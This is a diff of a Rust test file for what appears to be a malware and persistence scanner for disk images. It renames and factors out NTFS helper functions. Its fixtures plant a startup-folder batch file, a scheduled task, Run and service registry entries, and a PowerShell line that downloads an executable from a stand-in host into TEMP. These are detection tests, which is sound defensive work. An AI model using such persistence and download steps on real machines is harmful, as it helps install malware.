@@ -1637,7 +1637,7 @@ fn a_configured_clamd_scans_every_file_too() {
 }
 
 /// Copies a local file into an NTFS partition image (no mount).
-fn ntfs_put(part: &Path, local: &Path, guest: &str) {
+fn ntfs_copy(part: &Path, local: &Path, guest: &str) {
     sh(
         "ntfscp",
         &["-q", part.to_str().unwrap(), local.to_str().unwrap(), guest],
@@ -1650,8 +1650,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
     // The folders need a mount once (ntfs-3g, FUSE); files go in with
     // ntfscp afterwards.
     let part = env.path("ntfs.img");
-    sh("truncate", &["-s", "24M", part.to_str().unwrap()]);
-    sh("mkntfs", &["-F", "-Q", "-q", part.to_str().unwrap()]);
+    ntfs_volume(&part, "24M");
     let mnt = env.path("mnt");
     std::fs::create_dir_all(&mnt).unwrap();
     sh("ntfs-3g", &[part.to_str().unwrap(), mnt.to_str().unwrap()]);
@@ -1694,8 +1693,8 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
          setval 2\nImagePath\nexpandstring:%SystemRoot%\\system32\\svchost.exe -k NetworkService\nStart\ndword:0x2\n",
     );
     let place = || {
-        ntfs_put(&part, &software, "/Windows/System32/config/SOFTWARE");
-        ntfs_put(&part, &system, "/Windows/System32/config/SYSTEM");
+        ntfs_copy(&part, &software, "/Windows/System32/config/SOFTWARE");
+        ntfs_copy(&part, &system, "/Windows/System32/config/SYSTEM");
         write_at(&disk, 1 << 20, &std::fs::read(&part).unwrap())
     };
     place();
@@ -1709,7 +1708,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
 
     let bat = env.path("updater.bat");
     std::fs::write(&bat, "@echo off\r\nstart /b C:\\Users\\Public\\svc.exe\r\n").unwrap();
-    ntfs_put(
+    ntfs_copy(
         &part,
         &bat,
         "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/updater.bat",
@@ -1737,7 +1736,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
                 r"C:\Users\Public",
             ],
         );
-        ntfs_put(
+        ntfs_copy(
             &part,
             &lnk,
             &format!("/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/{name}"),
@@ -1749,7 +1748,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
     let mut utf16 = vec![0xff, 0xfe];
     utf16.extend(xml.encode_utf16().flat_map(|u| u.to_le_bytes()));
     std::fs::write(&task, utf16).unwrap();
-    ntfs_put(&part, &task, "/Windows/System32/Tasks/SystemHealthCheck");
+    ntfs_copy(&part, &task, "/Windows/System32/Tasks/SystemHealthCheck");
     // The script the task gives PowerShell.
     let script = env.path("t.ps1");
     std::fs::write(
@@ -1757,7 +1756,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
         "Invoke-WebRequest http://203.0.113.9/p -OutFile $env:TEMP\\p.exe\r\n",
     )
     .unwrap();
-    ntfs_put(&part, &script, "/ProgramData/Microsoft/Windows/t.ps1");
+    ntfs_copy(&part, &script, "/ProgramData/Microsoft/Windows/t.ps1");
     // And the registry ways in: a Run value and an automatic service.
     hivexsh(
         &software,
@@ -2085,19 +2084,8 @@ fn a_finding_quoting_terminal_escapes_is_printed_escaped() {
 fn malware_in_an_ntfs_alternate_data_stream_is_found() {
     let env = Env::new("30d", &[]);
     let vol = env.path("ntfs.img");
-    let v = vol.to_str().unwrap();
-    sh("truncate", &["-s", "16M", v]);
-    sh("mkntfs", &["-F", "-f", "-q", v]);
-    let put = |content: &[u8], stream: Option<&str>| {
-        let src = env.path("src");
-        std::fs::write(&src, content).unwrap();
-        let mut args = vec!["-q"];
-        if let Some(s) = stream {
-            args.extend(["-N", s]);
-        }
-        args.extend([v, src.to_str().unwrap(), "/report.txt"]);
-        sh("ntfscp", &args);
-    };
+    ntfs_volume(&vol, "16M");
+    let put = |content: &[u8], stream: Option<&str>| ntfs_put(&vol, "/report.txt", content, stream);
     put(b"quarterly report\n", None);
     put(b"[ZoneTransfer]\r\nZoneId=3\r\n", Some("Zone.Identifier"));
     env.backup(&vol, "ads", "2026-05-01T00:00:00Z");
